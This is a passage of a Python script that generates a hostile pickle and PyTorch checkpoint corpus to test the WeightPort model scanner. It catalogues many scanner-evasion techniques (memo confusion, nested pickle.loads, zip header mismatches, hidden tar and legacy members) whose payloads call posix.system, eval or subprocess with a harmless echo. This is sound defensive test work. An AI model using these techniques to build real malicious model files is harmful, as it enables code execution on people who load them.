    # CVE-2025-1944): Python's zipfile refuses to open the member, torch goes by the central directory.
    def build():
        p = hostile_state_dict()
        records = [dict(name="archive/data.pkl", local_name="archive/datap.kl", data=p.bytes_()),
                   dict(name="archive/data/0", data=WEIGHT), dict(name="archive/version", data=b"3\n")]
        data, layout = zip_archive(records)
        return data, layout, {("archive/data.pkl", layout[0][1]): p}
    return zipped(build)


def f_zip_nested_pickle_loads():
    # pickle.loads(<nested pickle calling posix.system>) as a state-dict value in data.pkl.
    inner = system_pickle("posix")
    return zipped(lambda: simple_zip(state_dict_pickle(
        legacy=False, hostile=lambda a: a.global_("pickle", "loads").nested_pickle(inner).tuple1().reduce())))


def tarred(object_pickle, sys_info):
    def build(name):
        members, headers = tar_members(object_pickle.bytes_(), sys_info.bytes_())
        data, layout = tar_archive(members)
        parts = []
        for member, at, size in layout:
            if member == "pickle":
                parts.append((member, at, object_pickle, dict(size=size)))
            elif member == "sys_info":
                parts.append((member, at, sys_info, dict(size=size)))
            else:
                # storages/tensors hold header pickles between raw bytes; list their callables too.
                for rel, p in headers[member]:
                    parts.append((f"{member} (header pickle at {rel})", at + rel, p, dict(member=member, member_offset=rel)))
        return data, TAR, parts
    return build


def f_tar_pickle_payload():
    return tarred(tar_object_pickle(hostile=lambda a: call_system(a)), tar_sys_info_pickle())


def f_tar_sys_info_payload():
    # torch 1.13 never reads 'sys_info', but it is a pickle inside the checkpoint: a scanner must still report it.
    return tarred(tar_object_pickle(), tar_sys_info_pickle(hostile=lambda a: call_system(a)))


# name, builder, technique, sources (URLs)
MEMO = PICKLESCAN + "/issues/14"
CORPUS = [
    ("memo_binput_vs_memoize.pkl", f_memo_binput_vs_memoize(),
     "memo confusion: LONG_BINPUT/BINPUT indices 0-1 mixed with MEMOIZE (len(memo)); STACK_GLOBAL fetches BINGET 0/1",
     [MEMO]),
    ("memo_text_put_get.pkl", f_memo_text_put_get(),
     "memo confusion in protocol 0: text PUT 2/3 then PUT 0/1, GET 2/3 feed STACK_GLOBAL",
     [PICKLESCAN + "/issues/22", PS_TESTS + " (malicious11.pkl)"]),
    ("stack_global_memo_strings.pkl", f_stack_global_memo_strings(),
     "STACK_GLOBAL whose module/name come from the memo (BINGET, LONG_BINGET) after decoy string literals",
     [PICKLESCAN + "/issues/22", "https://github.com/protectai/modelscan/issues/338",
      "https://github.com/protectai/modelscan/pull/348"]),
    ("build_setattr_numpy_prod.pkl", f_build_setattr(),
     "BUILD as setattr: (None, {attr: value}) slot state on a foreign function, attributes read back as dotted "
     "globals and fed through the memo to STACK_GLOBAL", ["https://github.com/protectai/modelscan/issues/85"]),
    ("setstate_functools_partial.pkl", f_setstate_partial(),
     "__setstate__ payload: BUILD on functools.partial replaces the wrapped function with posix.system",
     [PS_SCANNER + " (functools.partial on the unsafe list)", PS_TESTS + " (Malicious19)"]),
    ("inst_os_system_proto0.pkl", f_inst_proto0(),
     "INST 'os system' with a MARK'd argument (protocol 0)", [PS_TESTS + " (malicious10.pkl)"]),
    ("obj_posix_system_proto1.pkl", f_obj_proto1(),
     "OBJ with the class pushed by GLOBAL (protocol 1, no PROTO opcode)",
     ["https://sensepost.com/cms/resources/conferences/2011/sour_pickles/BH_US_11_Slaviero_Sour_Pickles.pdf"]),
    ("nested_pickle_loads.pkl", f_nested_pickle_loads(),
     "nested pickle: _pickle.loads on BINBYTES holding a pickle that calls posix.system",
     [PICKLESCAN + "/pull/25", "https://github.com/protectai/modelscan/issues/267"]),
    ("importlib_import_module.pkl", f_importlib_import_module(),
     "importlib.import_module('posix') + builtins.getattr(..., 'system')",
     [PICKLESCAN + "/issues/66", PICKLESCAN + "/pull/74"]),
    ("marshal_functiontype.pkl", f_marshal_functiontype(),
     "marshal.loads(code bytes) + types.FunctionType(code, {})() (placeholder bytes, not a real code object)",
     [PICKLESCAN + "/pull/74", "https://github.com/trailofbits/fickling (UNSAFE_IMPORTS: marshal, types)"]),
    ("runpy_run_code.pkl", f_runpy_run_code(), "runpy._run_code(source, {})", [PS_TESTS + " (Malicious14)"]),
    ("builtins_eval_exec.pkl", f_builtins_eval_exec(),
     "__builtin__.eval and builtins.exec of source strings", [PS_TESTS + " (Malicious1, malicious10.pkl)"]),
    ("getattr_chain.pkl", f_getattr_chain(),
     "builtins.getattr chain: getattr(getattr(__import__('builtins'), '__import__')('posix'), 'system')",
     [PS_TESTS + " (malicious0.pkl, 'sour pickles')"]),
    ("operator_attrgetter_frame.pkl", f_operator_attrgetter(),
     "operator.attrgetter('system')(builtins.__import__('os')) via STACK_GLOBAL, MEMOIZE after every object, FRAME",
     [PS_TESTS + " (malicious12.pkl)", PS_SCANNER + " (operator.attrgetter on the unsafe list)"]),
    ("operator_methodcaller_private.pkl", f_operator_methodcaller_private(),
     "_operator.methodcaller('system', cmd)(builtins.__import__('posix'))", [PICKLESCAN + "/pull/54"]),
    ("subprocess_popen.pkl", f_subprocess_popen(), "subprocess.Popen(['sh', '-c', cmd])",
     [PS_TESTS + " (Malicious7: subprocess.run)"]),
    ("webbrowser_open.pkl", f_webbrowser_open(), "webbrowser.open(url)", [PS_SCANNER + " (webbrowser on the unsafe list)"]),
    ("torch_load_partial.pkl", f_torch_load_partial(),
     "nested checkpoint load: functools.partial(torch.load, path, weights_only=False)() via __setstate__",
     [PS_TESTS + " (Malicious19)"]),
    ("torch_hub_load.pkl", f_torch_hub_load(), "torch.hub.load('attacker/repo', 'entry')",
     ["https://github.com/trailofbits/fickling (ML-unsafe imports: torch.hub)"]),
    ("legacy_magic_eval_bypass.legacy.pt", f_legacy_magic_eval_bypass(),
     "legacy magic-number bypass: pickle #1 is __builtin__.eval('0x1950a86a20f9469cfc6c'); posix.system in the object",
     [PICKLESCAN + "/blob/main/tests/data/pytorch_magic_bypass.pt", PICKLESCAN + "/blob/main/src/picklescan/torch.py"]),
    ("legacy_protocol_payload.legacy.pt", f_legacy_protocol_payload(),
     "legacy: the protocol-version pickle #2 is eval(\"system(...) or 1001\")", ["torch/serialization.py _legacy_load"]),
    ("legacy_sys_info_payload.legacy.pt", f_legacy_sys_info_payload(),
     "legacy: posix.system inside the sys_info pickle #3", ["torch/serialization.py _legacy_load"]),
    ("legacy_object_payload.legacy.pt", f_legacy_object_payload(),
     "legacy: posix.system as a value of the state dict (pickle #4); valid magic", ["torch/serialization.py _legacy_load"]),
    ("legacy_storage_keys_payload.legacy.pt", f_legacy_storage_keys_payload(),
     "legacy: posix.system in the storage-key-list pickle #5 (before the list is built)",
     ["torch/serialization.py _legacy_load"]),
    ("legacy_magic_not_int.legacy.pt", f_legacy_magic_not_int(),
     "legacy: the magic pickle holds a str, not the int (benign otherwise; must be refused, not misread)",
     [PICKLESCAN + "/blob/main/src/picklescan/torch.py (get_magic_number)"]),
    ("zip_state_dict_payload.zip.pt", f_zip_state_dict_payload(),
     "torch zip: posix.system as a state-dict value in data.pkl (baseline)",
     ["https://github.com/huggingface/safetensors/blob/main/attacks/torch_ace_create.py"]),
    ("zip_flag_local_0x01_encrypted.zip.pt", f_zip_flag(0x01, False)(),
     "torch zip: flag bit 0 (encrypted) in data.pkl's local header only (torch still loads it)",
     [PICKLESCAN + "/security/advisories/GHSA-w8jq-xcqf-f792"]),
    ("zip_flag_local_0x20_patched.zip.pt", f_zip_flag(0x20, False)(),
     "torch zip: flag bit 5 (compressed patched data) in data.pkl's local header only (torch still loads it)",
     [PICKLESCAN + "/security/advisories/GHSA-w8jq-xcqf-f792"]),
    ("zip_flag_local_0x40_strong_encryption.zip.pt", f_zip_flag(0x40, False)(),
     "torch zip: flag bit 6 (strong encryption) in data.pkl's local header only (torch still loads it)",
     [PICKLESCAN + "/security/advisories/GHSA-w8jq-xcqf-f792"]),
    ("zip_flag_central_0x01_encrypted.zip.pt", f_zip_flag(0x01, True)(),
     "torch zip: flag bit 0 (encrypted) in both headers of data.pkl (torch 1.13 and zipfile refuse the member)",
     [PICKLESCAN + "/security/advisories/GHSA-w8jq-xcqf-f792"]),
    ("zip_duplicate_data_pkl.zip.pt", f_zip_duplicate_data_pkl(),
     "torch zip: two archive/data.pkl entries, the second hostile", ["docs/formats.md §4.5 (duplicate names)"]),
    ("zip_extra_pkl_member.zip.pt", f_zip_extra_member("extra.pkl")(),
     "torch zip: benign data.pkl, payload in a second pickle member archive/extra.pkl", [PICKLESCAN + "/security/advisories/GHSA-769v-p64c-89pr"]),
    ("zip_pickle_as_data_bin.zip.pt", f_zip_extra_member("data.bin")(),
     "torch zip: payload pickle under a non-pickle extension (archive/data.bin)",
     [PICKLESCAN + "/security/advisories/GHSA-769v-p64c-89pr"]),
    ("zip_pickle_as_serialization_id.zip.pt", f_zip_extra_member(".data/serialization_id")(),
     "torch zip: payload pickle in the metadata record archive/.data/serialization_id",
     [PICKLESCAN + "/security/advisories/GHSA-769v-p64c-89pr", "https://github.com/promptfoo/modelaudit/pull/1043"]),
    ("zip_pickle_in_unused_storage.zip.pt", f_zip_extra_member("data/1")(),
     "torch zip: payload pickle in a storage record (archive/data/1) that no persistent id uses",
     ["https://github.com/promptfoo/modelaudit/pull/1043"]),
    ("zip_local_name_mismatch.zip.pt", f_zip_local_name_mismatch(),
     "torch zip: local header name 'archive/datap.kl' differs from the central directory's 'archive/data.pkl'",
     [PICKLESCAN + "/security/advisories/GHSA-7q5r-7gvp-wc82"]),
    ("zip_nested_pickle_loads.zip.pt", f_zip_nested_pickle_loads(),
     "torch zip: pickle.loads of a nested pickle (posix.system) as a state-dict value",
     [PICKLESCAN + "/pull/25"]),
    ("tar_pickle_payload.tar.pt", f_tar_pickle_payload(),
     "pre-0.4 tar checkpoint (sys_info, pickle, tensors, storages): posix.system in the 'pickle' member",
     ["https://github.com/pytorch/pytorch/pull/145020", PS_SCANNER + " (tar scanning is a TODO)"]),
    ("tar_sys_info_payload.tar.pt", f_tar_sys_info_payload(),
     "pre-0.4 tar checkpoint: posix.system in the 'sys_info' member (torch 1.13 never reads it)",
     ["https://github.com/trailofbits/fickling (polyglot.py: tar with sys_info)"]),
]


# --------------------------------------------------------------------------------------------------------------
# Manifest and checks
# --------------------------------------------------------------------------------------------------------------
# WeightPort's allowlist (src/WeightPort/Formats/Pickle/PickleAllowlist.cs; the legacy tensor classes such as
# torch.FloatTensor, which the tar format names in its tensor headers, are allowlisted like the storage classes), to mark the findings
# that `weightport inspect --scan` does not report because they are allowed, and the structural globals that any
# torch.save file has (not part of a payload).
WP_ALLOWED = {
    "collections.OrderedDict", "collections.Counter", "torch._utils._rebuild_tensor", "torch._utils._rebuild_tensor_v2",
    "torch._utils._rebuild_tensor_v3", "torch._utils._rebuild_parameter", "torch._utils._rebuild_parameter_with_state",
    "torch._tensor._rebuild_from_type_v2", "torch.Size", "torch.device", "torch.Tensor", "torch.nn.parameter.Parameter",
    "torch.UntypedStorage", "torch.storage.UntypedStorage", "_codecs.encode", "builtins.set", "builtins.frozenset",
    "builtins.bytearray", "builtins.bytes", "builtins.complex",
} | {f"{m}.{c}{kind}" for m in ("torch", "torch.cuda") for kind in ("Storage", "Tensor") for c in (
    "Float", "Double", "Half", "BFloat16", "Char", "Short", "Int", "Long", "Byte", "Bool", "ComplexFloat", "ComplexDouble")}
STRUCTURAL = {"collections.OrderedDict", "torch._utils._rebuild_tensor_v2", "torch.FloatStorage", "torch.FloatTensor"}


def canonical(module, name):
    if module.startswith("<"):
        return "<dynamic>"
    return f"{COMPAT.get(module, module)}.{name}"


def genops_calls(data):
    """(offset, opcode name, 'module name' or None) of every callable-naming opcode, from pickletools.genops."""
    found = []
    for op, arg, pos in pickletools.genops(data):
        if op.name in CALL_OPS:
            found.append((pos, op.name, arg))
    return found


def check_part(label, p):
    data = p.bytes_()
    pickletools.dis(data, out=io.StringIO())           # raises on stack/mark/memo inconsistencies
    n = sum(1 for _ in pickletools.genops(data))
    got = genops_calls(data)
    want = [(o, op, None if op == "STACK_GLOBAL" else f"{m} {n_}") for o, op, m, n_, _ in p.calls]
    if got != want:
        raise SystemExit(f"{label}: pickletools finds {got}, the assembler recorded {want}")
    for rel, inner in p.nested:
        if data[rel:rel + len(inner.b)] != inner.b:
            raise SystemExit(f"{label}: nested pickle not at {rel}")
        check_part(f"{label} > nested", inner)
    return n


def findings(location, file_offset, p, nested_in=None):
    out = []
    for o, op, m, n, note in p.calls:
        full = canonical(m, n)
        f = dict(module=m, name=n, full_name=full, opcode=op, location=location, offset=o,
                 file_offset=file_offset + o, payload=full not in STRUCTURAL, allowlisted=full in WP_ALLOWED)
        if nested_in is not None:
            f["nested"] = True
        if note:
            f["note"] = note
        out.append(f)
    for rel, inner in p.nested:
        out += findings(f"{location} > BINBYTES@{rel - 5} (nested pickle)", file_offset + rel, inner, nested_in=location)
    return out


def build_all():
    files = {}
    entries = []
    for name, builder, technique, sources in CORPUS:
        data, container, parts = builder(name)
        part_list, expected = [], []
        for part in parts:
            location, at, p = part[:3]
            extra = part[3] if len(part) > 3 else {}
            rec = dict(location=location, file_offset=at, **extra)
            if p is not None:
                rec["pickle_bytes"] = len(p.b)
                if data[at:at + len(p.b)] != p.b:
                    raise SystemExit(f"{name}: part {location} is not at {at}")
                rec["opcodes"] = check_part(f"{name}:{location}", p)
                expected += findings(location, at, p)
            part_list.append(rec)
        files[name] = data
        entries.append(dict(name=name, technique=technique, container=container, bytes=len(data),
                            sha256=hashlib.sha256(data).hexdigest(), sources=sources, parts=part_list,
                            expected_findings=expected))
    return files, entries


def check_containers(files, entries):
    """Read the containers back with Python's zipfile / tarfile (listing and reading bytes only, never unpickling)."""
    notes = {}
    for e in entries:
        data = files[e["name"]]
        if e["container"] == ZIP:
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                names = [i.filename for i in z.infolist()]
                want = [p["location"] for p in e["parts"]]
                if names != want:
                    raise SystemExit(f"{e['name']}: zipfile lists {names}, expected {want}")
                outcomes = []
                for info, part in zip(z.infolist(), e["parts"]):
                    try:
                        got = z.open(info).read()
                        ok = got == data[part["file_offset"]:part["file_offset"] + part["size"]]
                        if not ok:
                            raise SystemExit(f"{e['name']}: member {info.filename} bytes differ")
                    except (NotImplementedError, RuntimeError, zipfile.BadZipFile) as ex:
                        outcomes.append(f"{info.filename}: {type(ex).__name__}: {ex}")
                notes[e["name"]] = outcomes
        elif e["container"] == TAR:
            with tarfile.open(fileobj=io.BytesIO(data), mode="r:") as t:
                got = [(m.name, m.offset_data, m.size) for m in t.getmembers()]
            want = [(p.get("member", p["location"]), p["file_offset"] - p.get("member_offset", 0)) for p in e["parts"]]
            if [(n, o) for n, o, _ in got] != list(dict.fromkeys(want)):
                raise SystemExit(f"{e['name']}: tarfile lists {got}, expected {want}")
    return notes


def manifest_bytes(entries):
    doc = {
        "about": ("Hostile pickle corpus for WeightPort's scanner (weightport inspect --scan). Written by "
                  "tools/make_hostile_corpus.py from raw opcode bytes; nothing here was ever unpickled. Do not load "
                  "these files with pickle or torch.load."),
        "fields": {
            "location": "the part: the file name for a plain pickle; 'legacy pickle #N (...)' as WeightPort's legacy "
                        "reader names them; the zip member (central directory name); the tar member",
            "offset": "byte offset of the GLOBAL / STACK_GLOBAL / INST opcode within its part (for a nested pickle: "
                      "within the nested pickle)",
            "file_offset": "the same opcode's absolute offset in the file",
            "full_name": "module.name after the Python 2 mapping (__builtin__ -> builtins); '<dynamic>' when the "
                         "STACK_GLOBAL operands are not strings until the pickle runs",
            "nested": "true for a callable inside a pickle that the file passes as bytes to pickle.loads",
            "payload": "false for the structural globals every torch.save file names (OrderedDict, "
                       "_rebuild_tensor_v2, FloatStorage, the tar format's FloatTensor); true for the hostile ones",
            "allowlisted": "true when WeightPort's allowlist (PickleAllowlist.cs) accepts the name, so --scan does "
                           "not list it",
            "parts.opcodes": "opcode count of the part according to pickletools.genops",
        },
        "command_in_payloads": CMD,
        "files": entries,
    }
    return (json.dumps(doc, indent=1, ensure_ascii=False) + "\n").encode()


README_HEAD = """# Hostile pickle corpus

Files for testing WeightPort's scanner (`weightport inspect --scan FILE`) and its refusals. **Do not load them
with `pickle` or `torch.load`**: they call `posix.system`, `eval`, `subprocess.Popen` … (with a harmless
`echo` command, but still). They were assembled opcode by opcode by `tools/make_hostile_corpus.py` (stdlib only,
deterministic: `python3 tools/make_hostile_corpus.py --check` rebuilds them in memory and compares); nothing was
ever unpickled to make or check them. The script cross-checks every opcode offset with `pickletools.genops` and
runs `pickletools.dis` (a disassembler) on every pickle part.

`hostile.json` lists, per file, the container, its parts (legacy pickles #1-#5 named as WeightPort's legacy reader
names them, zip members, tar members) and every GLOBAL / STACK_GLOBAL / INST opcode a scanner must report: module,
name, `full_name` (after `__builtin__` -> `builtins`), part (`location`), offset in the part, absolute
`file_offset`, `payload` (false for the structural globals of any torch.save file) and `allowlisted` (WeightPort's
allowlist accepts it, so `--scan` does not list it). Callables inside a nested pickle (bytes passed to
`pickle.loads`) are marked `nested`. A STACK_GLOBAL whose operands are not strings until the pickle runs has
`full_name` `<dynamic>`.

Containers were checked on **benign twins** (the same builders with a benign pickle), loaded with Debian's torch
1.13: the zip, legacy and tar layouts load; flag bits in the local header only are ignored by torch (the file
loads), in the central directory they make torch and Python's zipfile refuse the member; of two
`archive/data.pkl` entries torch and zipfile use the second; a local header name that differs from the central
directory's does not stop torch; a legacy magic pickle that holds a str makes torch fail with "Invalid magic
number". No hostile file was ever given to torch.

| file | container | technique | payload callables | source |
|---|---|---|---|---|
"""


def readme_bytes(entries):
    rows = []
    for e in entries:
        calls = sorted({f["full_name"] + (" (nested)" if f.get("nested") else "") for f in e["expected_findings"]
                        if f["payload"]}) or ["none (must be refused)"]
        src = " · ".join(f"<{s}>" if s.startswith("http") and " " not in s else s for s in e["sources"])
        technique = e["technique"].replace("|", "/").replace("__", "\\_\\_")
        rows.append(f"| `{e['name']}` | {e['container']} | {technique} | "
                    f"{', '.join('`' + c + '`' for c in calls)} | {src} |")
    return (README_HEAD + "\n".join(rows) + "\n").encode()


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--check", action="store_true", help="only compare a fresh build with fixtures/hostile/")
    ap.add_argument("--out", type=Path, default=OUT, help="output folder (default fixtures/hostile)")
    args = ap.parse_args()

    files, entries = build_all()
    files2, entries2 = build_all()
    if files != files2 or entries != entries2:
        raise SystemExit("the build is not deterministic")
    zip_notes = check_containers(files, entries)
    manifest = manifest_bytes(entries)

    if args.check:
        bad = [n for n, d in files.items() if not (args.out / n).exists() or (args.out / n).read_bytes() != d]
        if (args.out / "hostile.json").read_bytes() != manifest:
            bad.append("hostile.json")
        if (args.out / "README.md").read_bytes() != readme_bytes(entries):
            bad.append("README.md")
        if bad:
            raise SystemExit(f"differs from a fresh build: {', '.join(bad)}")
        print(f"{len(files)} files, hostile.json and README.md match a fresh build")
        return

    args.out.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (args.out / name).write_bytes(data)
    (args.out / "hostile.json").write_bytes(manifest)
    (args.out / "README.md").write_bytes(readme_bytes(entries))
    total = 0
    for e in entries:
        total += len(e["expected_findings"])
        names = ", ".join(f"{f['full_name']}@{f['offset']}" for f in e["expected_findings"]) or "(none)"
        print(f"{e['name']:42s} {e['bytes']:6d} B  {names}")
        for n in zip_notes.get(e["name"], []):
            print(f"{'':42s}   zipfile: {n}")
    print(f"{len(files)} files, {total} expected findings -> {args.out}")


if __name__ == "__main__":
    sys.exit(main())
